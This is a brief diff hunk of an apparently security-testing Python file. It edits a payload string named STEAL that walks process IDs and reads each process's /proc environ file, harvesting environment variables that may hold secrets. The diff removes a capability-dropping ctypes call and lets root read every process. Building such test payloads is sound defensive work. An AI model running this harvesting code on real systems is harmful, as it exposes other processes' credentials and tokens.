@@ -65,11 +65,9 @@ print("{HOSTILE} filled")
 
 
 STEAL = f"""
-import ctypes, os
-head, none = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
-ctypes.CDLL(None).capset(head, none)  # root is then a user as others
+import os
 pid = os.getpid()
-while pid > 1:
+while pid > 1 and (os.geteuid() or pid == os.getpid()):  # root may read all processes
     try:
         with open(f"/proc/{{{{pid}}}}/environ", "rb") as file:
             found = file.read()
